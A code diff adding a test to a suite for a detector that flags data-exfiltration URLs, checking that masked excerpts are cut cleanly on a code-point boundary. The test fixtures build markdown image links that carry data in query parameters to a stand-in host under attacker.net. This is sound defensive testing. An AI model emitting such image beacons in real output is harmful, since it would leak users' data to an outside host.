@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { createDetectorContext, DEFAULT_CONTENT_THRESHOLDS } from '../../../../shared/detectors/config.ts';
 import { analyzeUrl, exfilUrlDetector } from '../../../../shared/detectors/content/exfil-url.ts';
 import { countInvisible, invisibleUnicodeDetector } from '../../../../shared/detectors/content/invisible-unicode.ts';
+import { hasLoneSurrogate } from '../../../../shared/findings/text.ts';
 import { out, rec } from '../../../fixtures/detectors/records.ts';
 
 const ctx = createDetectorContext();
@@ -15,6 +16,14 @@ describe('exfiltration URLs', () => {
     expect(d.evidence.hosts).toEqual(['stats.attacker.net']);
     expect(JSON.stringify(d)).not.toContain(DATA);
     expect(d.evidence.excerpts).toEqual([`https://stats.attacker.net/…?d=****(${DATA.length})`]);
+  });
+
+  it('cuts a long excerpt on a code-point boundary (no lone surrogate at the 200-unit cut)', () => {
+    for (let k = 0; k < 40; k++) {
+      const params = Array.from({ length: 5 }, (_, i) => `p${i}${'😀'.repeat(10)}=${DATA}`).join('&');
+      const [d] = exfilUrlDetector.detect(out(`![s](https://${'h'.repeat(k + 1)}.attacker.net/p.gif?${params})`), ctx);
+      for (const x of d.evidence.excerpts as string[]) expect(hasLoneSurrogate(x), `host of ${k + 1}`).toBe(false);
+    }
   });
 
   it('masks data smuggled as a query parameter name (no `=`, or a long name), not only values', () => {
